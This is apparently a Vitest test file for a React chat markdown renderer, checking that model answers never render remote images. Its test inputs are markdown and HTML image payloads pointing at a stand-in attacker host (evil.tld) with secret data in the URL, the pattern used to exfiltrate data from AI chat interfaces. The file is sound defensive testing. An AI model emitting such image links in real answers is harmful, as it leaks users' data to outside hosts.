import { renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { ChatMarkdown } from "./chat-markdown";

/** M7: an answer's markdown never makes the browser fetch a remote image (no <img>, no request to the host). */
describe("ChatMarkdown", () => {
  it("renders an inline image as its alt text, with no <img> and no address", () => {
    const html = renderToString(<ChatMarkdown text="Look: ![secret data](https://evil.tld/?q=secret)" />);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toContain("evil.tld");
    expect(html).toContain("[secret data]");
  });

  it("renders reference images and raw HTML images as no <img> either", () => {
    const html = renderToString(
      <ChatMarkdown text={'![a][r]\n\n<img src="https://evil.tld/x">\n\n[r]: https://evil.tld/?q=1'} />,
    );
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toContain("evil.tld");
  });

  it("keeps links as links", () => {
    const html = renderToString(<ChatMarkdown text="[house rules](https://example.com/rules)" />);
    expect(html).toContain('href="https://example.com/rules"');
  });
});
